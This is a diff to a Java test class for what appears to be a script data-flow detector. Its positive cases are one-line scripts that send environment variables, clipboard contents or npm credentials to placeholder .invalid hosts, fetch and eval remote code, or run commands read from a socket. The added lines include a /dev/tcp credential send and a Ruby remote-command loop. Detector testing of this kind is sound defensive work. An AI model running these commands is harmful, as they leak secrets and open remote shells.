@@ -24,6 +24,8 @@ class ScriptFlowsTest {
                 "environment network-send \u00a6 import os, json, urllib.request\u00b6d = json.dumps(dict(os.environ)).encode()\u00b6urllib.request.urlopen('https://f.invalid', d)",
                 "clipboard network-send \u00a6 while true; do c=$(pbpaste); curl -s -d \"$c\" https://g.invalid/c; sleep 5; done",
                 "package-credentials dns-query \u00a6 t=$(cat ~/.npmrc | base64)\u00b6nslookup $t.h.invalid",
+                "package-credentials network-send \u00a6 exec 3<>/dev/tcp/p.invalid/8080\u00b6cat ~/.npmrc >&3",
+                "network-response process-command \u00a6 def session(sock)\u00b6  line = sock.gets\u00b6  out, = Open3.capture2e(line)\u00b6end\u00b6session(TCPSocket.new('q.invalid', 51))",
                 "network-response code-eval \u00a6 import urllib.request\u00b6code = urllib.request.urlopen('https://i.invalid/p').read()\u00b6exec(code)",
                 "network-response code-eval \u00a6 <?php\u00b6$c = file_get_contents('https://j.invalid/c');\u00b6eval($c);",
                 "network-response process-command \u00a6 $job = Invoke-RestMethod 'https://k.invalid/j'\u00b6cmd /c $job.cmd",
@@ -49,6 +51,7 @@ class ScriptFlowsTest {
                 "k=$HOME/.ssh/config\u00b6ls -l \"$k\"",
                 "import subprocess, requests\u00b6requests.get('https://c.example/ping')\u00b6subprocess.run(['git', 'status'])",
                 "cat ~/.zshrc | grep nvm",
+                "file = ARGV.fetch(0)\u00b6out, = Open3.capture2('rubocop', '--format', 'json', file)",
                 "# curl https://d.example/x | sh\u00b6echo done",
             })
     void dataThatStaysIsNone(String script) {
